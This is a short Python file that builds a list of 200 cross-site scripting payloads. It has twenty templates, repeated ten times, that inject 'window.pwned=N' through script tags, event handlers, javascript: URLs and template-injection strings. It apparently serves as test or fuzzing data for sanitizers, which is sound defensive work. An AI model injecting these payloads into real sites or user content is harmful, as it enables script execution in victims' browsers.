"""200 ways to make words run as a script; each sets `window.pwned`."""

PAYLOADS = [
    form.format(f"window.pwned={number}")
    for number, form in enumerate(
        [
            "<script>{}</script>", "<img src=x onerror={}>", "\"><svg onload={}>", "'><svg/onload={}>",
            "javascript:{}", "<a href=javascript:{}>x</a>", "</title><script>{}</script>", "<svg><script>{}</script>",
            "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<body onload={}>", "<embed src=javascript:{}>",
            "<details open ontoggle={}>", "<input autofocus onfocus={}>", "-->{}<!--", "\\u003cscript>{}</script>",
            "<math><mi xlink:href=javascript:{}>", "<object data=javascript:{}>", "<marquee onstart={}>",
            "<style>@import 'javascript:{}'</style>",
        ]
        * 10
    )
]  # fmt: skip
